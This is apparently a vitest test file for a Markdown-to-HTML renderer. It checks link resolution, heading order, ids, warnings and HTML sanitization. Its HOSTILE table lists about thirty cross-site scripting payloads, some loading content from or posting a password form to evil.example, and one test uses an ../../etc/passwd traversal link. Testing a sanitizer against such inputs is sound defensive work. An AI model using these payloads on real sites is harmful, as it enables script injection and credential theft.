import type { Element, Root } from "hast";
import rehypeRaw from "rehype-raw";
import { unified } from "unified";
import { expect, test } from "vitest";
import type { Found } from "../src/markdown/links.ts";
import { renderPageBody } from "../src/markdown/page-body.ts";
import { mapElements } from "../src/markdown/to-hast.ts";
import { sectionWith } from "./fixtures/section-with.ts";

const places: Record<string, Found> = {
  "link guides/install.md": { kind: "page", file: "guides/install.html" },
  "link other.md": { kind: "page", file: "other.html" },
  "picture img/a.png": { kind: "asset", file: "assets/a-1.png" },
};

async function body(markdown: string, source = "note.md", line = 1) {
  return renderPageBody({
    file: "note.html",
    title: "Title",
    sections: [sectionWith(markdown, { parts: [{ source, line, markdown }] })],
    display: (path) => `docs/${path}`,
    locate: async (path, use) => places[`${use} ${path}`] ?? { kind: "none", reason: "leads nowhere" },
  });
}
const html = async (markdown: string) => (await body(markdown)).html;

const HOSTILE: Record<string, string> = {
  script: "<script>alert(1)</script>",
  "script in text": "a <script src=//evil.example/x.js></script> b",
  "event handler": '<img src="img/a.png" onerror="alert(1)">',
  "broken tag": '<img src="img/a.png"onerror=alert(1)//',
  "javascript link": "[x](javascript:alert(1))",
  "javascript link in HTML": '<a href="javascript:alert(1)">x</a>',
  "javascript with entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
  "javascript with a line feed": '<a href="java\nscript:alert(1)">x</a>',
  "javascript with a NUL": '<a href="\u0001javascript:alert(1)">x</a>',
  "reference link": "[x]\n\n[x]: javascript:alert(1)",
  autolink: "<javascript:alert(1)>",
  vbscript: "[x](vbscript:msgbox)",
  "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "data picture": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  svg: "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  math: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  style: "<style>body{display:none}</style><p style='position:fixed'>x</p>",
  "style import": "<style>@import '//evil.example';</style>",
  form: '<form action="//evil.example"><input name=password><button>go</button></form>',
  meta: '<meta http-equiv="refresh" content="0;url=//evil.example">',
  base: '<base href="//evil.example/">',
  object: '<object data="x.swf"><embed src="x.swf"></object>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  template: "<template><script>alert(1)</script></template>",
  "comment trick": "<!--><img src=x onerror=alert(1)>-->",
  cdata: "<![CDATA[<script>alert(1)</script>]]>",
  "unclosed title": "<title><img src=x onerror=alert(1)>",
  "code fence language": '```js" onclick="alert(1)\nx\n```',
  srcset: '<picture><source srcset="javascript:alert(1)"><img src="img/a.png"></picture>',
  target: '<a href="https://example.org" target="_blank" onclick="alert(1)">x</a>',
};

test.for(Object.entries(HOSTILE))("a hostile note cannot run or load anything: %s", async ([, markdown]) => {
  const elements = elementsOf(await html(markdown));
  const names = elements.map((element) => element.tagName);
  expect(
    names.filter((name) =>
      /^(?:script|style|iframe|form|meta|base|object|embed|svg|math|title|template|noscript|button|source|animate)$/.test(
        name,
      ),
    ),
  ).toEqual([]);
  const properties = elements.flatMap((element) => Object.entries(element.properties));
  expect(
    properties.filter(
      ([name, value]) =>
        /^(?:on|style|target|srcSet|action)/i.test(name) || /^\s*(?:javascript|vbscript|data):/i.test(String(value)),
    ),
  ).toEqual([]);
});

/** What a browser makes of it. */
function elementsOf(html: string): Element[] {
  const raw = { type: "root", children: [{ type: "raw", value: html }] } as unknown as Root;
  const found: Element[] = [];
  mapElements(unified().use(rehypeRaw).runSync(raw), (element) => void found.push(element));
  return found;
}

test("allowed HTML stays, and text inside left-out elements stays readable", async () => {
  expect(await html("<details open><summary>More</summary>\n\n**inside**\n\n</details>")).toContain(
    "<details open><summary>More</summary>",
  );
  expect(await html("Press <kbd>Ctrl</kbd> and <blink>see</blink>")).toContain("<kbd>Ctrl</kbd> and see");
});

test("a name in angle brackets that is no HTML is text, with a warning at its line", async () => {
  const { html, warnings } = await body("Write to <sig-name> or\n<your name>.\n\nRun `x`.", "a/n.md", 5);
  expect(html).toContain("&lt;sig-name>");
  expect(warnings).toEqual([
    "docs/a/n.md:5: <sig-name> is no HTML and is shown as text",
    "docs/a/n.md:6: <your> is no HTML and is shown as text",
  ]);
});

test("syntax of other tools is text, with a warning at its line", async () => {
  const { html, warnings } = await body(
    "Text\n\n:::tip Look\nInside\n:::\n\n!!! note\n\n{{% include %}} {{ x }} [[wiki]]\n",
  );
  for (const text of [":::tip Look", "!!! note", "{{% include %}} {{ x }} [[wiki]]"]) expect(html).toContain(text);
  expect(warnings).toHaveLength(5);
  expect(warnings[0]).toMatch(/^docs\/note\.md:3: `:::` containers/);
});

test("links between notes lead to pages, pictures to assets, and both relative to the page", async () => {
  const result = await html(
    "[a](guides/install.md#step-1) [b](./guides/../other.md?x=1) [c](/other.md) ![p](img/a.png) [w](https://example.org/x) [m](mailto:a@example.org)",
  );
  expect(result).toContain(
    '<a href="guides/install.html#step-1">a</a> <a href="other.html">b</a> <a href="other.html">c</a>',
  );
  expect(result).toContain('<img src="assets/a-1.png" alt="p" loading="lazy" decoding="async">');
  expect(result).toContain('<a href="https://example.org/x">w</a> <a href="mailto:a@example.org">m</a>');
});

test("dead links and missing pictures are named with file and line, and their text stays", async () => {
  const { html, broken } = await body(
    "One\n\n[gone](gone.md) ![no picture](img/none.png)\n[out](../../etc/passwd) [enc](%2e%2e/x.md)",
    "note.md",
    4,
  );
  expect(html).not.toContain("<a ");
  expect(html).toContain(">gone</span>");
  expect(html).toContain(">no picture</span>");
  expect(broken).toEqual([
    "docs/note.md:6: link to gone.md leads nowhere",
    "docs/note.md:6: picture img/none.png leads nowhere",
    "docs/note.md:7: link to ../../etc/passwd points outside the content folder",
    "docs/note.md:7: link to %2e%2e/x.md points outside the content folder",
  ]);
});

test("headings have one order: they start under the page's title and skip no level", async () => {
  const { html, headings } = await body("# Title\n\n#### Deep\n\n## Two\n\n##### Five\n\n# One\n\n## Two");
  expect(headings.map(({ level, text }) => `${level} ${text}`)).toEqual([
    "2 Deep",
    "2 Two",
    "3 Five",
    "2 One",
    "3 Two",
  ]);
  expect(html.match(/<h[1-6] id="[^"]*"/g)).toEqual([
    '<h2 id="deep"',
    '<h2 id="two"',
    '<h3 id="five"',
    '<h2 id="one"',
    '<h3 id="two-1"',
  ]);
});

test("ids stand once, the author's own are kept, and none takes one of the layout's", async () => {
  const { html, ids } = await body(
    '## Content\n\n## Setup {#own}\n\n<a name="old"></a>\n\n<p id="content">x</p>\n\n<p id="own">y</p>',
  );
  expect(ids).toEqual(["title", "content-1", "own", "old"]);
  expect(html.match(/id="own"/g)).toHaveLength(1);
  expect(html).not.toContain('id="content"');
});

test("call-outs, tables, tasks, code and footnotes are made for everybody", async () => {
  const result = await html(
    "> [!WARNING]\n> Hot\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n```ts\nlet a = 1 < 2;\n```\n\nNote[^1].\n\n[^1]: Small.",
  );
  expect(result).toContain(
    '<div class="call-out warning" role="note" aria-label="Warning"><p class="call-out-title">Warning</p>',
  );
  expect(result).toContain('<div class="table" role="group" aria-label="Table" tabindex="0"><table>');
  expect(result).toContain('<td class="align-right">2</td>');
  expect(result).toMatch(/<input type="checkbox" checked disabled aria-label="Done">/);
  expect(result).toContain('<div class="code" data-language="ts"><pre tabindex="0"><code>let a = 1 &lt; 2;');
  expect(result).toMatch(/href="#n1-fn-1"[\s\S]*id="n1-fn-1"/);
});

test("what no parser can take is shown as text, with a warning", async () => {
  const { html, warnings } = await body(">".repeat(6_000));
  expect(html).toContain("<pre");
  expect(warnings).toEqual(["docs/note.md:1: is nested too deeply to be read as Markdown, and is shown as text"]);
});

test("the same notes give the same page", async () => {
  const markdown = "# A\n\n[x](other.md) <b>y</b>\n\n## B\n\n## B";
  expect(await html(markdown)).toBe(await html(markdown));
});
